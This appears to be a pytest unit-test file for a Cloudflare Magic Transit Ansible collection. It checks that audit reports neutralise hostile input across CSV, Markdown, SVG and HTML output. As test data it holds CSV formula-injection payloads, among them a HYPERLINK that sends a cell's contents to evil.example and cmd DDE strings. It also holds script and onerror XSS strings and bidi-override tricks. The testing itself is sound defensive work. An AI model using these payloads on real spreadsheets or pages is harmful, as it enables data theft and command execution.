# Copyright: (c) 2026, cloudflare.magic_transit contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)

"""The report's files with hostile API strings (every format escapes them its own way), and bad values
that become findings or clear messages instead of raw exceptions."""

from __future__ import annotations

import csv
import io
import re
from xml.etree import ElementTree

import pytest

from ansible_collections.cloudflare.magic_transit.plugins.module_utils._inputs import InvalidOption
from ansible_collections.cloudflare.magic_transit.plugins.module_utils._report import build_report, parse_version
from ansible_collections.cloudflare.magic_transit.plugins.module_utils._report_render import (
    FSI,
    PDI,
    csv_cell,
    render_all,
    render_svg,
    write_files,
)
from ansible_collections.cloudflare.magic_transit.tests.unit.plugins.module_utils.report_data import NOW, connector


def files_for(notes, **fields):
    """The rendered files of a fleet of one not-activated connector with these notes (so it is in every table)."""
    report = build_report([connector(1, notes, activated=False, **fields)], None, dict(offline_hours=24), NOW)
    return render_all(report, "Audit")


def csv_notes(files):
    return [row["notes"] for row in csv.DictReader(io.StringIO(files["connectors.csv"]))]


# --- CSV: formula injection ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "notes, cell",
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'already quoted", "''already quoted"),  # one more apostrophe: reading back always drops exactly one
        ("store-01 = primary", "store-01 = primary"),  # only a leading formula character counts
        ("", ""),
    ],
)
def test_csv_cells_that_start_like_formulas_get_a_leading_apostrophe(notes, cell):
    assert csv_notes(files_for(notes)) == [cell]


@pytest.mark.parametrize("notes", ["=1+1", "'=1+1", "''x", "+", "-1", "@a", "\tx", "\rx", "plain", "'"])
def test_csv_round_trips_by_dropping_one_leading_apostrophe(notes):
    [cell] = csv_notes(files_for(notes))
    assert (cell[1:] if cell.startswith("'") else cell) == notes


def test_numbers_are_never_quoted():
    assert csv_cell(-1.5) == -1.5 and csv_cell(None) is None


# --- Markdown ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "notes, forbidden",
    [
        ("<img src=x onerror=alert(1)>", "<img"),
        ("<script>alert(1)</script>", "<script>"),
        ("![tracker](https://evil.example/pixel.png)", "!["),
        ("[click](javascript:alert(1))", "[click]("),
        ("see https://evil.example/x", "https://"),
        ("see www.evil.example", "www.evil"),
        ("mail attacker@evil.example", "attacker@evil"),
        ("a | b", "a | b"),
        ("**bold** _it_ `code` ~~del~~", "**bold**"),
        ("&lt;b&gt;", "&lt;"),
    ],
)
def test_markdown_shows_the_text_and_never_markup(notes, forbidden):
    markdown = files_for(notes)["report.md"]
    # A backslash-escaped character is literal text in Markdown: with them removed, no markup may be left.
    assert forbidden not in re.sub(r"\\.", "", markdown)
    assert forbidden.strip("<![&") in markdown.replace("\\", "")  # the text itself is shown


@pytest.mark.parametrize("notes", ["one\rtwo", "one\ntwo", "one\r\ntwo", "one\u2028two", "one\x0btwo"])
def test_a_line_break_never_splits_a_table_row(notes):
    markdown = files_for(notes)["report.md"]
    rows = [line for line in markdown.splitlines() if line.startswith("| one")]
    assert len(rows) == 1 and rows[0].count(" | ") == 9 and rows[0].endswith(" |")
    assert "\r" not in markdown and "\u2028" not in markdown


# --- SVG and HTML ----------------------------------------------------------------------------------------------------


def ha_pair(notes):
    """Two members of one site with the same window: listed as down together under the calendar."""
    first = connector(1, notes, site_id="s1")
    second = connector(2, "peer", site_id="s1", primary=False)
    return build_report([first, second], None, dict(offline_hours=24), NOW)


@pytest.mark.parametrize(
    "notes", ["null\x00byte", "bell\x07", "escape\x1b[31m", "form\x0cfeed", "bad\ufffe", "lone\ud800"]
)
def test_svg_and_html_drop_what_xml_forbids(notes):
    report = ha_pair(notes)
    svg = render_svg(report)
    ElementTree.fromstring(svg.encode("utf-8", "surrogatepass"))  # parses: well-formed XML
    files = render_all(report, "Audit")
    assert not any(c in files["report.html"] for c in "\x00\x07\x1b\x0c\ufffe\ud800")
    assert "\x00" not in files["connectors.csv"], "a NUL is dropped from the CSV too (Python < 3.11 cannot write it)"


@pytest.mark.parametrize(
    "notes",
    [
        "store \u202eevil\u202c",
        "\u05d7\u05e0\u05d5\u05ea \u05ea\u05dc \u05d0\u05d1\u05d9\u05d1",
        "x\u2067y",
        "\u202dlro",
    ],
)
def test_bidirectional_text_is_isolated(notes):
    report = ha_pair(notes)
    svg = render_svg(report)
    line = [
        t.text
        for t in ElementTree.fromstring(svg).iter("{http://www.w3.org/2000/svg}text")
        if t.text and t.text.strip().startswith("s1")
    ][0]
    name = line.split(": ", 1)[1].split(" and ")[0]
    assert name.startswith(FSI) and name.endswith(PDI)
    assert not any(c in name for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067")
    # the times after the name stay where they are
    assert line.endswith("01:00-05:00") or line.rstrip().endswith(":00")
    html = render_all(report, "Audit")["report.html"]
    assert "\u202e" not in html and "<bdi>" in html


def test_plain_ascii_names_are_not_wrapped():
    svg = render_svg(ha_pair("store-01"))
    assert FSI not in svg and "store-01 and peer" in svg


# --- bad values: findings or clear messages, never a raw exception -------------------------------------------------


@pytest.mark.parametrize(
    "fields, key, text",
    [
        (dict(interrupt_window_hour_of_day=float("nan")), "unreadable_window", "interrupt_window_hour_of_day nan"),
        (
            dict(interrupt_window_duration_hours=float("inf")),
            "unreadable_window",
            "interrupt_window_duration_hours inf",
        ),
        (
            dict(interrupt_window_hour_of_day="-Infinity"),
            "unreadable_window",
            "interrupt_window_hour_of_day '-Infinity'",
        ),
        (dict(interrupt_window_hour_of_day=25), "unreadable_window", "interrupt_window_hour_of_day 25"),
        (dict(interrupt_window_days_of_week="Sunday"), "unreadable_window", "interrupt_window_days_of_week 'Sunday'"),
        (dict(timezone="Mars/Olympus_Mons"), "unknown_timezone", "time zone 'Mars/Olympus_Mons' is unknown"),
        (dict(timezone=42), "unknown_timezone", "time zone 42 is unknown"),
        (dict(last_seen_version="2026." + "9" * 5000), "old_version", "cannot be compared with 2026.2.0"),
        (dict(last_heartbeat="yesterday"), "offline", "heartbeat time 'yesterday' unreadable"),
        (dict(interrupt_window_embargo_dates=[20260101, None, "2026-01-01"]), "past_embargo_dates", "2026-01-01"),
    ],
)
def test_one_bad_value_is_a_finding_naming_it(fields, key, text):
    report = build_report(
        [connector(1, "store-01", **fields), connector(2, "store-02")],
        None,
        dict(offline_hours=24, min_version="2026.2.0"),
        NOW,
    )
    [row] = [r for r in report["connectors"] if r["name"] == "store-01"]
    assert any(f["key"] == key and text in f["text"] for f in row["findings"]), row["findings"]
    files = render_all(report, "Audit")  # and every file renders
    assert "store-02" in files["connectors.csv"]
    assert len(row["findings"][0]["text"]) < 200, "a finding quotes a long value cut short"


def test_a_known_zone_is_no_finding():
    report = build_report([connector(1, "store-01", timezone="Asia/Kolkata")], None, dict(offline_hours=24), NOW)
    assert report["connectors"][0]["findings"] == []


@pytest.mark.parametrize(
    "value, rule",
    [
        ("2026..5", "numbers separated by dots"),
        ("2026." + "1" * 5000, "each number at most 12 digits"),
    ],
)
def test_a_bad_min_version_names_the_option(value, rule):
    with pytest.raises(InvalidOption) as caught:
        parse_version(value, "min_version")
    assert caught.value.option == "min_version" and rule in str(caught.value) and len(str(caught.value)) < 200


@pytest.mark.parametrize("hours", [float("nan"), float("inf"), "NaN", 0, -1])
def test_offline_hours_that_are_no_number_are_refused(hours):
    with pytest.raises(InvalidOption, match="offline_hours must be a number of hours above 0"):
        build_report([], None, dict(offline_hours=hours), NOW)


def test_a_dest_that_cannot_hold_the_files_names_dest(tmp_path):
    blocker = tmp_path / "report"
    blocker.write_text("a file, not a folder")
    with pytest.raises(InvalidOption, match=r"^dest must be a directory the report can be written into"):
        write_files(str(blocker), {"report.md": "x\n"})
    assert blocker.read_text() == "a file, not a folder"
